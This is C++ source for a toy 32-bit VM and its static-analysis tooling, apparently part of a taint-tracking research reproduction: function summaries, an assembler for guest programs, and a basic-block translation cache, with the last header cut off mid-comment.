          }
          break;
        }
        case Opcode::kPush: {
          s.can_store = true;
          s.inert = false;
          SumVal ea = fold_sum(Opcode::kSubi, r[vm::SP], SumVal::konst(4));
          if (ea.kind == SumKind::kConst) {
            add_write(s, WriteFact{WriteFact::kConstEa, 0, ea.c});
          } else if (ea.kind == SumKind::kParam) {
            add_write(s, WriteFact{WriteFact::kParamRel, ea.reg, ea.c});
          } else {
            add_write(s, WriteFact{WriteFact::kUnknown, 0, 0});
          }
          r[vm::SP] = fold_sum(Opcode::kSubi, r[vm::SP], SumVal::konst(4));
          break;
        }
        case Opcode::kPop:
          s.can_load = true;
          s.inert = false;
          r[insn.rd] = SumVal::varies(true, va);
          if (insn.rd != vm::SP) {
            r[vm::SP] = fold_sum(Opcode::kAddi, r[vm::SP], SumVal::konst(4));
          }
          break;

        case Opcode::kDivu:
          // taint_inert(kDivu) is false purely because a zero divisor
          // traps; a proven non-zero constant divisor cannot.
          if (!(r[insn.rs2].kind == SumKind::kConst && r[insn.rs2].c != 0)) {
            s.inert = false;
          }
          r[insn.rd] = fold_sum(insn.op, r[insn.rs1], r[insn.rs2]);
          break;

        case Opcode::kAdd:
        case Opcode::kSub:
        case Opcode::kMul:
        case Opcode::kAnd:
        case Opcode::kOr:
        case Opcode::kXor:
        case Opcode::kShl:
        case Opcode::kShr:
          if ((insn.op == Opcode::kXor || insn.op == Opcode::kSub) &&
              insn.rs1 == insn.rs2) {
            r[insn.rd] = SumVal::konst(0);
          } else {
            r[insn.rd] = fold_sum(insn.op, r[insn.rs1], r[insn.rs2]);
          }
          break;

        case Opcode::kAddi:
        case Opcode::kSubi:
        case Opcode::kMuli:
        case Opcode::kAndi:
        case Opcode::kOri:
        case Opcode::kXori:
        case Opcode::kShli:
        case Opcode::kShri:
          r[insn.rd] = fold_sum(insn.op, r[insn.rs1],
                                SumVal::konst(insn.imm));
          break;

        case Opcode::kSyscall:
          s.can_syscall = true;
          s.inert = false;
          r[vm::R0] = SumVal::varies(true, va);
          break;

        case Opcode::kCall:
        case Opcode::kCallr: r[vm::LR] = SumVal::konst(next); break;

        default: break;  // stores/branches/cmp/ret/halt: no register effect
      }
    }

    const vm::Instruction& term = blk.terminator();
    bool fall_reachable = true;
    if (vm::is_call(term.op)) {
      // Apply the callee summary (or the sound unknown-callee fallback).
      u32 site_va = blk.insn_va(blk.insns.size() - 1);
      const FuncSummary* callee = nullptr;
      for (const CallSite& cs : fn.call_sites) {
        if (cs.va == site_va && cs.resolved) {
          auto it = table.find(cs.target);
          if (it != table.end()) callee = &it->second;
          break;
        }
      }
      if (!callee || callee->clobber_all) {
        s.can_store = s.can_load = s.can_syscall = true;
        s.inert = false;
        s.writes_unknown = true;
        s.writes.clear();
        st = SumState::all_varies();
      } else {
        s.can_store = s.can_store || callee->can_store;
        s.can_load = s.can_load || callee->can_load;
        s.can_syscall = s.can_syscall || callee->can_syscall;
        s.inert = s.inert && callee->inert;
        if (callee->writes_unknown) {
          s.writes_unknown = true;
          s.writes.clear();
        } else {
          for (const WriteFact& w : callee->writes) {
            add_write(s, apply_write(w, st));
          }
        }
        if (!callee->returns) {
          fall_reachable = false;
        } else {
          SumState after;
          for (u32 i = 0; i < vm::kNumRegs; ++i) {
            const SumVal& o = callee->out[i];
            switch (o.kind) {
              case SumKind::kConst:
              case SumKind::kVaries: after.regs[i] = o; break;
              case SumKind::kParam:
                after.regs[i] = fold_sum(Opcode::kAddi, st.regs[o.reg],
                                         SumVal::konst(o.c));
                after.regs[i].from_load =
                    after.regs[i].from_load || o.from_load;
                break;
              case SumKind::kBot:
                after.regs[i] = SumVal::varies(o.from_load, o.origin);
                break;
            }
          }
          st = after;
        }
      }
    }

    if (term.op == Opcode::kRet) {
      saw_ret = true;
      for (u32 i = 0; i < vm::kNumRegs; ++i) {
        ret_out[i] = sum_join(ret_out[i], st.regs[i]);
      }
    }

    for (const Edge& e : blk.succs) {
      if (e.kind == EdgeKind::kCall) continue;  // interproc, handled above
      if (!fall_reachable) continue;
      auto it = block_in.find(e.target);
      if (it == block_in.end()) continue;  // outside this body
      SumState merged;
      for (u32 i = 0; i < vm::kNumRegs; ++i) {
        merged.regs[i] = sum_join(it->second.regs[i], st.regs[i]);
      }
      if (!(merged == it->second)) {
        it->second = merged;
        worklist.insert(e.target);
      }
    }
  }

  for (u32 bva : fn.blocks) {
    auto it = cfg.blocks.find(bva);
    if (it != cfg.blocks.end()) {
      s.insns += static_cast<u32>(it->second.insns.size());
    }
  }
  s.returns = saw_ret;
  if (saw_ret) s.out = ret_out;
  return s;
}

}  // namespace

SummaryTable compute_summaries(const Cfg& cfg, const CallGraph& cg) {
  SummaryTable table;
  for (const std::vector<u32>& scc : cg.sccs) {
    bool recursive = scc.size() > 1;
    if (!recursive) {
      const Function& fn = *cg.function_of(scc[0]);
      recursive = fn.callees.count(scc[0]) != 0;  // self-loop
    }
    if (!recursive) {
      const Function& fn = *cg.function_of(scc[0]);
      table[scc[0]] = summarize(cfg, fn, table);
      continue;
    }
    // Recursive component: optimistic start (returns=false, no effects),
    // then iterate to the least fixpoint. The domain is finite and every
    // step is monotone; the round cap is a safety net, with the sound
    // clobber-all result as the bail-out.
    for (u32 entry : scc) {
      FuncSummary s;
      s.entry = entry;
      table[entry] = s;
    }
    bool stable = false;
    for (u32 round = 0; round < 32 && !stable; ++round) {
      stable = true;
      for (u32 entry : scc) {
        FuncSummary next = summarize(cfg, *cg.function_of(entry), table);
        const FuncSummary& prev = table[entry];
        if (!(next.out == prev.out && next.returns == prev.returns &&
              next.clobber_all == prev.clobber_all &&
              next.can_store == prev.can_store &&
              next.can_load == prev.can_load &&
              next.can_syscall == prev.can_syscall &&
              next.inert == prev.inert && next.writes == prev.writes &&
              next.writes_unknown == prev.writes_unknown)) {
          stable = false;
        }
        table[entry] = std::move(next);
      }
    }
    if (!stable) {
      for (u32 entry : scc) table[entry] = clobbered(entry);
    }
  }
  return table;
}

bool SummaryCallModel::call_out(u32 site_va, bool has_target, u32 target,
                                const RegState& at_call,
                                RegState& out) const {
  (void)site_va;
  const FuncSummary* s = nullptr;
  if (has_target) {
    auto it = table_.find(target);
    if (it != table_.end()) s = &it->second;
  }
  if (!s || s->clobber_all) {
    out = RegState::all_varies();
    return true;
  }
  if (!s->returns) {
    out = RegState::all_varies();
    return false;
  }
  for (u32 i = 0; i < vm::kNumRegs; ++i) {
    out.regs[i] = apply_sum(s->out[i], at_call);
  }
  return true;
}

}  // namespace faros::sa
