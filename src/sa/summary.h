// Bottom-up interprocedural function summaries over the call graph
// (sa/callgraph.h): per function, the register out-effects expressed in
// the caller's frame (preserved-parameter + offset, constant, or
// runtime-varying with the from_load/origin marks of sa/dataflow.h),
// whether the function or anything it can reach may store, load, or
// syscall, whether every instruction it can run is vm::taint_inert, and a
// conservative set of written-address facts. Computed callee-first over
// the SCC condensation with a fixpoint inside recursive components.
//
// SummaryCallModel plugs the table into run_dataflow, replacing the
// historical clobber-every-register call semantics: a resolved callee's
// effects are mapped through the caller's state at the call site, an
// unresolved callee keeps the sound clobber-all fallback, and a callee
// that provably never returns cuts the fall-through edge.
#pragma once

#include "sa/callgraph.h"
#include "sa/dataflow.h"

namespace faros::sa {

enum class SumKind : u8 {
  kBot = 0,  // no return path defined it (transient during the fixpoint)
  kParam,    // caller's register `reg` at the call, plus offset `c`
  kConst,    // known 32-bit constant
  kVaries,   // runtime-dependent
};

/// Summary-domain value: like AbsVal, plus the kParam shape that keeps a
/// function symbolic in its inputs ("returns arg2 + 8", "preserves SP").
struct SumVal {
  SumKind kind = SumKind::kBot;
  u8 reg = 0;             // valid for kParam
  u32 c = 0;              // kConst value / kParam additive offset
  bool from_load = false;
  u32 origin = 0;         // def-site va for runtime-derived values

  bool operator==(const SumVal&) const = default;

  static SumVal param(u8 r, u32 off = 0) {
    return SumVal{SumKind::kParam, r, off, false, 0};
  }
  static SumVal konst(u32 v, bool loaded = false) {
    return SumVal{SumKind::kConst, 0, v, loaded, 0};
  }
  static SumVal varies(bool loaded = false, u32 origin = 0) {
    return SumVal{SumKind::kVaries, 0, 0, loaded, origin};
  }
};

/// Lattice join for the summary domain (kBot is the identity).
SumVal sum_join(const SumVal& a, const SumVal& b);

/// One conservative written-address fact.
struct WriteFact {
  enum Kind : u8 {
    kConstEa = 0,  // absolute address `ea`
    kParamRel,     // caller register `reg` at the call, plus offset `ea`
    kUnknown,      // computed address the summary cannot bound
  };
  Kind kind = kUnknown;
  u8 reg = 0;
  u32 ea = 0;

  bool operator==(const WriteFact&) const = default;
};

/// Cap on distinct write facts per function; past it the set degrades to
/// writes_unknown rather than growing without bound.
inline constexpr u32 kMaxWriteFacts = 16;

struct FuncSummary {
  u32 entry = 0;
  /// Register state at return, in the caller's frame. Valid when
  /// `returns` and not `clobber_all`.
  std::array<SumVal, vm::kNumRegs> out{};
  bool returns = false;      // some path reaches a kRet
  /// Intraprocedural control flow is opaque (unresolved kJr, a branch
  /// with a dropped edge, or a truncated block): callers must assume
  /// anything, exactly like the historical clobber-all call semantics.
  bool clobber_all = false;
  bool can_store = false;    // function or a callee may execute a store
  bool can_load = false;     // ... a load
  bool can_syscall = false;  // ... a syscall
  /// Every instruction this function and its resolved callees can run is
  /// vm::taint_inert (or a kDivu whose divisor is a proven non-zero
  /// constant): calling it can neither move taint nor trap.
  bool inert = true;
  u32 insns = 0;             // body instruction count (excl. callees)
  std::vector<WriteFact> writes;
  bool writes_unknown = false;  // capped / unknown callee / clobber_all
};

/// Per-image summary table, keyed by function entry va.
using SummaryTable = std::map<u32, FuncSummary>;

/// Bottom-up computation over `cg.sccs` (callee-first). Deterministic.
SummaryTable compute_summaries(const Cfg& cfg, const CallGraph& cg);

/// Applies a summary table as run_dataflow call semantics.
class SummaryCallModel final : public CallModel {
 public:
  explicit SummaryCallModel(const SummaryTable& table) : table_(table) {}
  bool call_out(u32 site_va, bool has_target, u32 target,
                const RegState& at_call, RegState& out) const override;

 private:
  const SummaryTable& table_;
};

/// Maps one summary value through the caller's state at the call site.
AbsVal apply_sum(const SumVal& v, const RegState& at_call);

}  // namespace faros::sa
