#include "vm/assembler.h"

#include "common/strings.h"

namespace faros::vm {

void Assembler::emit(Opcode op, u8 rd, u8 rs1, u8 rs2, u32 imm) {
  Instruction insn{op, rd, rs1, rs2, imm};
  encode(insn, out_);
}

void Assembler::emit_label(Opcode op, u8 rd, u8 rs1, u8 rs2,
                           const std::string& label, FixKind kind) {
  fixups_.push_back(Fixup{size(), label, kind});
  emit(op, rd, rs1, rs2, 0);
}

void Assembler::nop() { emit(Opcode::kNop, 0, 0, 0, 0); }
void Assembler::halt() { emit(Opcode::kHalt, 0, 0, 0, 0); }
void Assembler::brk() { emit(Opcode::kBrk, 0, 0, 0, 0); }
void Assembler::syscall_() { emit(Opcode::kSyscall, 0, 0, 0, 0); }
void Assembler::movi(Reg rd, u32 imm) { emit(Opcode::kMovi, rd, 0, 0, imm); }
void Assembler::mov(Reg rd, Reg rs) { emit(Opcode::kMov, rd, rs, 0, 0); }

void Assembler::movi_label(Reg rd, const std::string& label) {
  emit_label(Opcode::kMovi, rd, 0, 0, label, FixKind::kAbs);
}

void Assembler::addpc_label(Reg rd, const std::string& label) {
  emit_label(Opcode::kAddPc, rd, 0, 0, label, FixKind::kRelNext);
}

void Assembler::ld8(Reg rd, Reg base, i32 off) {
  emit(Opcode::kLd8, rd, base, 0, static_cast<u32>(off));
}
void Assembler::ld16(Reg rd, Reg base, i32 off) {
  emit(Opcode::kLd16, rd, base, 0, static_cast<u32>(off));
}
void Assembler::ld32(Reg rd, Reg base, i32 off) {
  emit(Opcode::kLd32, rd, base, 0, static_cast<u32>(off));
}
void Assembler::st8(Reg base, i32 off, Reg src) {
  emit(Opcode::kSt8, 0, base, src, static_cast<u32>(off));
}
void Assembler::st16(Reg base, i32 off, Reg src) {
  emit(Opcode::kSt16, 0, base, src, static_cast<u32>(off));
}
void Assembler::st32(Reg base, i32 off, Reg src) {
  emit(Opcode::kSt32, 0, base, src, static_cast<u32>(off));
}
void Assembler::push(Reg rs) { emit(Opcode::kPush, 0, rs, 0, 0); }
void Assembler::pop(Reg rd) { emit(Opcode::kPop, rd, 0, 0, 0); }

void Assembler::add(Reg rd, Reg a, Reg b) { emit(Opcode::kAdd, rd, a, b, 0); }
void Assembler::sub(Reg rd, Reg a, Reg b) { emit(Opcode::kSub, rd, a, b, 0); }
void Assembler::mul(Reg rd, Reg a, Reg b) { emit(Opcode::kMul, rd, a, b, 0); }
void Assembler::divu(Reg rd, Reg a, Reg b) {
  emit(Opcode::kDivu, rd, a, b, 0);
}
void Assembler::and_(Reg rd, Reg a, Reg b) { emit(Opcode::kAnd, rd, a, b, 0); }
void Assembler::or_(Reg rd, Reg a, Reg b) { emit(Opcode::kOr, rd, a, b, 0); }
void Assembler::xor_(Reg rd, Reg a, Reg b) { emit(Opcode::kXor, rd, a, b, 0); }
void Assembler::shl(Reg rd, Reg a, Reg b) { emit(Opcode::kShl, rd, a, b, 0); }
void Assembler::shr(Reg rd, Reg a, Reg b) { emit(Opcode::kShr, rd, a, b, 0); }

void Assembler::addi(Reg rd, Reg a, i32 imm) {
  emit(Opcode::kAddi, rd, a, 0, static_cast<u32>(imm));
}
void Assembler::subi(Reg rd, Reg a, i32 imm) {
  emit(Opcode::kSubi, rd, a, 0, static_cast<u32>(imm));
}
void Assembler::muli(Reg rd, Reg a, i32 imm) {
  emit(Opcode::kMuli, rd, a, 0, static_cast<u32>(imm));
}
void Assembler::andi(Reg rd, Reg a, u32 imm) {
  emit(Opcode::kAndi, rd, a, 0, imm);
}
void Assembler::ori(Reg rd, Reg a, u32 imm) {
  emit(Opcode::kOri, rd, a, 0, imm);
}
void Assembler::xori(Reg rd, Reg a, u32 imm) {
  emit(Opcode::kXori, rd, a, 0, imm);
}
void Assembler::shli(Reg rd, Reg a, u32 imm) {
  emit(Opcode::kShli, rd, a, 0, imm);
}
void Assembler::shri(Reg rd, Reg a, u32 imm) {
  emit(Opcode::kShri, rd, a, 0, imm);
}

void Assembler::cmp(Reg a, Reg b) { emit(Opcode::kCmp, 0, a, b, 0); }
void Assembler::cmpi(Reg a, i32 imm) {
  emit(Opcode::kCmpi, 0, a, 0, static_cast<u32>(imm));
}

void Assembler::jmp(const std::string& label) {
  emit_label(Opcode::kJmp, 0, 0, 0, label, FixKind::kRelNext);
}
void Assembler::jr(Reg r) { emit(Opcode::kJr, 0, r, 0, 0); }
void Assembler::beq(const std::string& label) {
  emit_label(Opcode::kBeq, 0, 0, 0, label, FixKind::kRelNext);
}
void Assembler::bne(const std::string& label) {
  emit_label(Opcode::kBne, 0, 0, 0, label, FixKind::kRelNext);
}
void Assembler::blt(const std::string& label) {
  emit_label(Opcode::kBlt, 0, 0, 0, label, FixKind::kRelNext);
}
void Assembler::bge(const std::string& label) {
  emit_label(Opcode::kBge, 0, 0, 0, label, FixKind::kRelNext);
}
void Assembler::bltu(const std::string& label) {
  emit_label(Opcode::kBltu, 0, 0, 0, label, FixKind::kRelNext);
}
void Assembler::bgeu(const std::string& label) {
  emit_label(Opcode::kBgeu, 0, 0, 0, label, FixKind::kRelNext);
}
void Assembler::call(const std::string& label) {
  emit_label(Opcode::kCall, 0, 0, 0, label, FixKind::kRelNext);
}
void Assembler::callr(Reg r) { emit(Opcode::kCallr, 0, r, 0, 0); }
void Assembler::ret() { emit(Opcode::kRet, 0, 0, 0, 0); }

void Assembler::label(const std::string& name) {
  auto [it, inserted] = labels_.emplace(name, size());
  (void)it;
  if (!inserted) {
    errors_.push_back("assembler: duplicate label '" + name + "'");
  }
}

void Assembler::data(ByteSpan bytes) {
  out_.insert(out_.end(), bytes.begin(), bytes.end());
}

void Assembler::data_str(const std::string& s, bool nul_terminate) {
  out_.insert(out_.end(), s.begin(), s.end());
  if (nul_terminate) out_.push_back(0);
}

void Assembler::data_u32(u32 v) {
  out_.push_back(static_cast<u8>(v & 0xff));
  out_.push_back(static_cast<u8>((v >> 8) & 0xff));
  out_.push_back(static_cast<u8>((v >> 16) & 0xff));
  out_.push_back(static_cast<u8>((v >> 24) & 0xff));
}

void Assembler::zeros(u32 n) { out_.insert(out_.end(), n, 0); }

void Assembler::align(u32 n) {
  while (out_.size() % n != 0) out_.push_back(0);
}

Result<Bytes> Assembler::assemble(u32 base_va) const {
  if (!errors_.empty()) return Err<Bytes>(errors_.front());
  Bytes result = out_;
  for (const Fixup& fix : fixups_) {
    auto it = labels_.find(fix.label);
    if (it == labels_.end()) {
      return Err<Bytes>("assembler: undefined label '" + fix.label + "'");
    }
    // Resolve in 64-bit so overflow is detected instead of wrapped.
    u64 target = static_cast<u64>(base_va) + it->second;
    if (target > 0xffffffffull) {
      return Err<Bytes>("assembler: label '" + fix.label +
                        "' resolves outside the 32-bit address space");
    }
    u32 imm = 0;
    switch (fix.kind) {
      case FixKind::kAbs: imm = static_cast<u32>(target); break;
      case FixKind::kRelNext: {
        i64 disp = static_cast<i64>(target) -
                   (static_cast<i64>(base_va) + fix.insn_offset + kInsnSize);
        if (disp < INT32_MIN || disp > INT32_MAX) {
          return Err<Bytes>("assembler: relative fixup to label '" +
                            fix.label + "' out of i32 range");
        }
        imm = static_cast<u32>(static_cast<i64>(disp));
        break;
      }
    }
    u32 at = fix.insn_offset + 4;
    result[at] = static_cast<u8>(imm & 0xff);
    result[at + 1] = static_cast<u8>((imm >> 8) & 0xff);
    result[at + 2] = static_cast<u8>((imm >> 16) & 0xff);
    result[at + 3] = static_cast<u8>((imm >> 24) & 0xff);
  }
  return result;
}

Result<u32> Assembler::label_offset(const std::string& name) const {
  auto it = labels_.find(name);
  if (it == labels_.end()) {
    return Err<u32>("assembler: unknown label '" + name + "'");
  }
  return it->second;
}

}  // namespace faros::vm
