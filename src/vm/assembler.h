// In-repo assembler for FV32 guest programs. All guest code in the
// reproduction — the runtime library, benign workloads, and the attack
// payloads — is written against this builder API and assembled into image
// sections or raw shellcode blobs.
#pragma once

#include <map>
#include <string>
#include <vector>

#include "common/result.h"
#include "common/types.h"
#include "vm/isa.h"

namespace faros::vm {

class Assembler {
 public:
  // --- misc ---
  void nop();
  void halt();
  void brk();
  void syscall_();
  void movi(Reg rd, u32 imm);
  void mov(Reg rd, Reg rs);
  /// rd = absolute address of `label` (patched at assemble time).
  void movi_label(Reg rd, const std::string& label);
  /// rd = address of `label`, computed PC-relative (position independent).
  void addpc_label(Reg rd, const std::string& label);

  // --- memory ---
  void ld8(Reg rd, Reg base, i32 off = 0);
  void ld16(Reg rd, Reg base, i32 off = 0);
  void ld32(Reg rd, Reg base, i32 off = 0);
  void st8(Reg base, i32 off, Reg src);
  void st16(Reg base, i32 off, Reg src);
  void st32(Reg base, i32 off, Reg src);
  void push(Reg rs);
  void pop(Reg rd);

  // --- ALU ---
  void add(Reg rd, Reg a, Reg b);
  void sub(Reg rd, Reg a, Reg b);
  void mul(Reg rd, Reg a, Reg b);
  void divu(Reg rd, Reg a, Reg b);
  void and_(Reg rd, Reg a, Reg b);
  void or_(Reg rd, Reg a, Reg b);
  void xor_(Reg rd, Reg a, Reg b);
  void shl(Reg rd, Reg a, Reg b);
  void shr(Reg rd, Reg a, Reg b);
  void addi(Reg rd, Reg a, i32 imm);
  void subi(Reg rd, Reg a, i32 imm);
  void muli(Reg rd, Reg a, i32 imm);
  void andi(Reg rd, Reg a, u32 imm);
  void ori(Reg rd, Reg a, u32 imm);
  void xori(Reg rd, Reg a, u32 imm);
  void shli(Reg rd, Reg a, u32 imm);
  void shri(Reg rd, Reg a, u32 imm);

  // --- compare & branch (label targets are PC-relative) ---
  void cmp(Reg a, Reg b);
  void cmpi(Reg a, i32 imm);
  void jmp(const std::string& label);
  void jr(Reg r);
  void beq(const std::string& label);
  void bne(const std::string& label);
  void blt(const std::string& label);
  void bge(const std::string& label);
  void bltu(const std::string& label);
  void bgeu(const std::string& label);
  void call(const std::string& label);
  void callr(Reg r);
  void ret();

  // --- layout ---
  /// Defines `name` at the current offset. Redefining a label is recorded
  /// as a hard error (reported by assemble()); the first definition wins,
  /// so earlier references stay stable while the error propagates.
  void label(const std::string& name);
  /// Emits raw bytes (data blobs). Call align(8) before code follows.
  void data(ByteSpan bytes);
  void data_str(const std::string& s, bool nul_terminate = true);
  void data_u32(u32 v);
  void zeros(u32 n);
  void align(u32 n);

  u32 size() const { return static_cast<u32>(out_.size()); }

  /// Resolves all labels against `base_va` and returns the final bytes.
  /// Fails hard — naming the offending label — on duplicate label
  /// definitions, references to labels never defined, and fixups whose
  /// resolved target (absolute) or displacement (relative) does not fit
  /// in the 32-bit immediate. Silently emitting bad code here would turn
  /// every downstream consumer (the loader, the static analyzer) into a
  /// fuzzer of its own corpus.
  Result<Bytes> assemble(u32 base_va) const;

  /// Offset of a label within the assembled output.
  Result<u32> label_offset(const std::string& name) const;

 private:
  enum class FixKind { kAbs, kRelNext };
  struct Fixup {
    u32 insn_offset;  // offset of the instruction start
    std::string label;
    FixKind kind;
  };

  void emit(Opcode op, u8 rd, u8 rs1, u8 rs2, u32 imm);
  void emit_label(Opcode op, u8 rd, u8 rs1, u8 rs2, const std::string& label,
                  FixKind kind);

  Bytes out_;
  std::map<std::string, u32> labels_;
  std::vector<Fixup> fixups_;
  std::vector<std::string> errors_;  // layout errors latched until assemble()
};

}  // namespace faros::vm
