#include "vm/btcache.h"

#include <algorithm>

namespace faros::vm {

BlockCache::BlockCache(PhysMem& mem) : mem_(&mem) {
  mem_->set_code_write_observer(
      [this](PAddr pa, u32 len) { on_code_write(pa, len); });
}

BlockCache::~BlockCache() {
  for (const auto& [frame, keys] : by_frame_) {
    (void)keys;
    mem_->unwatch_frame(frame << kPageShift);
  }
  mem_->set_code_write_observer(nullptr);
}

TranslatedBlock* BlockCache::lookup(PAddr cr3, VAddr va) {
  const u64 key = key_of(cr3, va);
  Front& f = front_[(va / kInsnSize) & (kFrontSize - 1)];
  if (f.key == key && f.epoch == evict_epoch_) {
    ++stats_.hits;
    return f.block;
  }
  auto it = map_.find(key);
  if (it == map_.end()) return nullptr;
  f = Front{key, evict_epoch_, &it->second};
  ++stats_.hits;
  return &it->second;
}

TranslatedBlock* BlockCache::translate(PAddr cr3, VAddr va, PAddr pa) {
  if (map_.size() >= kMaxBlocks) flush_all();
  TranslatedBlock b;
  b.cr3 = cr3;
  b.start_va = va;
  b.start_pa = pa;
  b.inert = true;
  // Instructions are 8-byte aligned, so the body walks to the page end at
  // most; a block never crosses into the next frame.
  const PAddr page_end = page_floor(static_cast<u32>(pa)) + kPageSize;
  for (PAddr p = pa; p + kInsnSize <= page_end; p += kInsnSize) {
    auto d = decode(mem_->span(p, kInsnSize));
    if (!d) break;  // truncate: the fall-through traps exactly like per-insn
    b.insns.push_back(*d);
    if (!taint_inert(d->op)) b.inert = false;
    if (ends_block(d->op)) break;
  }
  if (b.insns.empty()) return nullptr;
  ++stats_.translated;
  const u64 key = key_of(cr3, va);
  const u64 frame = pa >> kPageShift;
  const u32 lo = page_offset(static_cast<u32>(pa));
  const u32 hi = lo + static_cast<u32>(b.insns.size()) * kInsnSize;
  auto [it, inserted] = map_.insert_or_assign(key, std::move(b));
  if (inserted) by_frame_[frame].push_back(key);
  mem_->watch_frame(frame << kPageShift, lo, hi);
  return &it->second;
}

void BlockCache::evict_frame(PAddr frame_base, bool smc) {
  const u64 frame = frame_base >> kPageShift;
  auto it = by_frame_.find(frame);
  if (it != by_frame_.end()) {
    for (u64 key : it->second) {
      if (map_.erase(key)) {
        if (smc) ++stats_.evict_smc;
        else ++stats_.evict_cr3;
      }
    }
    by_frame_.erase(it);
    ++evict_epoch_;
  }
  mem_->unwatch_frame(frame_base);
}

void BlockCache::on_code_write(PAddr pa, u32 len) {
  const u64 first = pa >> kPageShift;
  const u64 last = (pa + len - 1) >> kPageShift;
  bool any = false;
  for (u64 frame = first; frame <= last; ++frame) {
    auto it = by_frame_.find(frame);
    if (it == by_frame_.end()) continue;
    auto& keys = it->second;
    for (size_t i = 0; i < keys.size();) {
      auto mit = map_.find(keys[i]);
      if (mit == map_.end()) {  // stale key left by evict_frame/flush races
        keys[i] = keys.back();
        keys.pop_back();
        continue;
      }
      const TranslatedBlock& b = mit->second;
      const PAddr b_end =
          b.start_pa + static_cast<u64>(b.insns.size()) * kInsnSize;
      if (b.start_pa < pa + len && pa < b_end) {
        map_.erase(mit);
        ++stats_.evict_smc;
        any = true;
        keys[i] = keys.back();
        keys.pop_back();
      } else {
        ++i;
      }
    }
    if (keys.empty()) {
      mem_->unwatch_frame(frame << kPageShift);
      by_frame_.erase(it);
    }
  }
  if (any) ++evict_epoch_;
}

void BlockCache::evict_cr3(PAddr cr3) {
  bool any = false;
  for (auto it = map_.begin(); it != map_.end();) {
    if (it->second.cr3 == cr3) {
      const u64 frame = it->second.start_pa >> kPageShift;
      auto fit = by_frame_.find(frame);
      if (fit != by_frame_.end()) {
        auto& keys = fit->second;
        keys.erase(std::remove(keys.begin(), keys.end(), it->first),
                   keys.end());
        if (keys.empty()) {
          mem_->unwatch_frame(frame << kPageShift);
          by_frame_.erase(fit);
        }
      }
      it = map_.erase(it);
      ++stats_.evict_cr3;
      any = true;
    } else {
      ++it;
    }
  }
  if (any) ++evict_epoch_;
}

void BlockCache::flush_all() {
  stats_.evict_cr3 += map_.size();
  map_.clear();
  for (const auto& [frame, keys] : by_frame_) {
    (void)keys;
    mem_->unwatch_frame(frame << kPageShift);
  }
  by_frame_.clear();
  ++evict_epoch_;
}

void BlockCache::evict_block(PAddr cr3, VAddr va) {
  const u64 key = key_of(cr3, va);
  auto it = map_.find(key);
  if (it == map_.end()) return;
  const u64 frame = it->second.start_pa >> kPageShift;
  auto fit = by_frame_.find(frame);
  if (fit != by_frame_.end()) {
    auto& keys = fit->second;
    keys.erase(std::remove(keys.begin(), keys.end(), key), keys.end());
    if (keys.empty()) {
      mem_->unwatch_frame(frame << kPageShift);
      by_frame_.erase(fit);
    }
  }
  map_.erase(it);
  ++stats_.evict_cr3;
  ++evict_epoch_;
}

}  // namespace faros::vm
