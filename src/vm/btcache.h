// Per-CR3 basic-block translation cache — the FV32 analogue of QEMU's TB
// cache. Blocks are decoded once into a predecoded straight-line form and
// re-executed from the cache on later visits; the interpreter dispatches
// whole blocks instead of fetch+decode per instruction.
//
// Correctness contract (what keeps cache-on byte-identical to cache-off):
//  - A block never crosses a page: instructions are 8-byte aligned and a
//    block's physical bytes live on the page of its first instruction, so
//    one fetch translation at block entry covers the whole body.
//  - Every frame holding translated code is *watched* in PhysMem; any write
//    into a watched frame (guest store, kernel copy-in, packet delivery)
//    evicts the blocks the written range overlaps before the bytes change
//    and bumps `evict_epoch`, which the interpreter checks between
//    instructions of the block being executed — self-modifying code that
//    rewrites its own block takes effect at exactly the next instruction,
//    as it would under per-instruction fetch. Writes into data bytes that
//    merely share a page with code evict nothing.
//  - The map key is (cr3, va) and each block records its start physical
//    address; the interpreter revalidates start_pa against the live fetch
//    translation at every block entry, so remaps and CR3 recycling can
//    never execute stale code. The kernel additionally evicts a process's
//    blocks at exit (evict_cr3) and on frame recycling (evict_frame).
//
// Blocks whose every opcode is taint_inert() are marked `inert`; the DIFT
// engine may approve running those through an uninstrumented fast body
// (see ExecHooks::try_elide_block in vm/cpu.h).
#pragma once

#include <unordered_map>
#include <vector>

#include "common/types.h"
#include "vm/isa.h"
#include "vm/phys_mem.h"

namespace faros::vm {

struct TranslatedBlock {
  PAddr cr3 = 0;
  VAddr start_va = 0;
  PAddr start_pa = 0;
  bool inert = false;  // every instruction satisfies taint_inert()
  /// Lazily resolved ExecHooks::block_elide_hint verdict for non-inert
  /// blocks (static summary proof, content-hash matched by the plugin).
  /// Reset naturally on retranslation: SMC evicts the block, and the fresh
  /// TranslatedBlock re-asks against the new bytes.
  bool hint_checked = false;
  bool hint_elidable = false;
  std::vector<Instruction> insns;
};

/// Cache-lifetime totals, exported into the obs metrics stream by whoever
/// owns the machine (farm jobs, benches). Plain integers so src/vm keeps
/// zero dependency on src/obs.
struct BlockCacheStats {
  u64 translated = 0;   // blocks decoded into the cache
  u64 hits = 0;         // block dispatches served from the cache
  u64 evict_smc = 0;    // blocks evicted by a write into their code frame
  u64 evict_cr3 = 0;    // blocks evicted by process-exit / frame recycling
};

class BlockCache {
 public:
  explicit BlockCache(PhysMem& mem);
  ~BlockCache();

  BlockCache(const BlockCache&) = delete;
  BlockCache& operator=(const BlockCache&) = delete;

  /// Cached block starting at `va` in space `cr3`, or nullptr.
  TranslatedBlock* lookup(PAddr cr3, VAddr va);

  /// Decodes a new block at va/pa (pa = fetch translation of va, already
  /// validated by the caller). Stops at the first block-ending instruction,
  /// the page boundary, or the first undecodable slot (truncating — the
  /// fall-through re-enters the interpreter which raises the same trap the
  /// per-instruction path would). Returns nullptr when the *first* slot is
  /// undecodable; nothing is cached in that case.
  TranslatedBlock* translate(PAddr cr3, VAddr va, PAddr pa);

  /// Evicts every block whose bytes live in `frame_base`. `smc` selects the
  /// stat bucket: true for write-triggered eviction, false for lifecycle
  /// (frame recycling).
  void evict_frame(PAddr frame_base, bool smc);

  /// Write-triggered eviction (the PhysMem code-write observer): evicts
  /// only the blocks whose byte range overlaps [pa, pa+len). Writes into
  /// data that merely shares a page with translated code evict nothing and
  /// leave the epoch untouched — the common case for images whose
  /// read-write globals sit beside their text.
  void on_code_write(PAddr pa, u32 len);

  /// Evicts every block of an exiting address space.
  void evict_cr3(PAddr cr3);

  /// Evicts a single block (used when the interpreter finds the live fetch
  /// translation disagrees with the recorded start_pa, i.e. a remap).
  void evict_block(PAddr cr3, VAddr va);

  /// Monotonic counter bumped by every eviction. The interpreter snapshots
  /// it at block entry and re-checks between instructions: a change means
  /// the predecoded body may be stale (self-modifying code) and execution
